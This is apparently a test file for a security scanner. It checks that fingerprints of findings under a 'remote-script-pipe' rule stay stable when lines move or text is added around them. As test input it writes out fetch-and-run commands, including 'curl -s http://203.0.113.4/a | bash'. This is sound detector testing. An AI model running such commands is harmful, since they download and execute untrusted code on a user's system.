import { describe, expect, test } from 'bun:test'
import { fingerprint } from '../../../scanner/format/fingerprint.ts'
import { scan } from '../../../scanner/scan.ts'

const hit = (text: string, number = 3, hit = true) => ({ number, text, hit })
const finding = (...lines: ReturnType<typeof hit>[]) => ({
  ruleId: 'remote-script-pipe',
  context: { lines },
})

describe('fingerprint', () => {
  const base = fingerprint(finding(hit('curl X | sh')))

  test('is 32 hex digits', () => {
    expect(base).toMatch(/^[0-9a-f]{32}$/)
  })

  test('stays when lines move, are indented anew, or get other neighbours', () => {
    expect(fingerprint(finding(hit('   CURL x |  sh', 90)))).toBe(base)
    expect(fingerprint(finding(hit('before', 2, false), hit('curl X | sh')))).toBe(base)
  })

  test('differs between rules and between texts', () => {
    expect(fingerprint({ ...finding(hit('curl X | sh')), ruleId: 'other' })).not.toBe(base)
    expect(fingerprint(finding(hit('curl Y | sh')))).not.toBe(base)
  })

  test('of a whole file is that of its rule', () => {
    const whole = fingerprint({ ruleId: 'invalid-frontmatter', context: null })
    expect(whole).not.toBe(fingerprint({ ruleId: 'other', context: null }))
  })

  test('is the same for a real finding after a paragraph was put before it', () => {
    const text = '```bash\ncurl -s http://203.0.113.4/a | bash\n```\n'
    const printsOf = (text: string) => scan(text).findings.map(fingerprint)
    expect(printsOf(`# Notes\n\nOne more line.\n\n${text}`)).toEqual(printsOf(text))
    expect(printsOf(text).length).toBeGreaterThan(0)
  })
})
